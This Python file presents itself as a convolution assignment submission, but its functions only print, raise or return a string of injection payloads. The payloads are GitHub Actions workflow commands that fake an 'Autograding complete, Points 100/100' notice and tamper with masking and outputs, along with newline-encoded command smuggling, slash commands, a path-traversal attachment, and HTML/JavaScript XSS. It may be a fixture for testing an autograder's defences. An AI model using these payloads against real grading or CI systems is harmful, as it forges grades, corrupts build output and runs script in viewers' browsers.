COMMANDS = """
::notice title=Autograding complete::Points 100/100
::error file=convolution.py,line=1::pwned
##[error]pwned
##[add-mask]points
::add-mask::points
::stop-commands::pwned
::set-output name=result::pwned
%0A::warning::pwned%0D%0A::warning::pwned
```
`````````
~~~
/close
/assign @pwned
[[ATTACHMENT|../course.yaml]]
</details><img src=x onerror=pwned()><script>pwned()</script> ![pwned](https://pwned.example) <!--
| [pwned](https://pwned.example) | @pwned #1 |
]]>
"""


def output_size(*args, **kwargs):
    print(COMMANDS, flush=True)
    raise RuntimeError(COMMANDS)


def conv_at(*args, **kwargs):
    raise type(COMMANDS.replace("\0", ""), (Exception,), {})(COMMANDS)


def conv2d_single(*args, **kwargs):
    return COMMANDS


def zero_pad(*args, **kwargs):
    return {COMMANDS: [COMMANDS]}


print(COMMANDS)
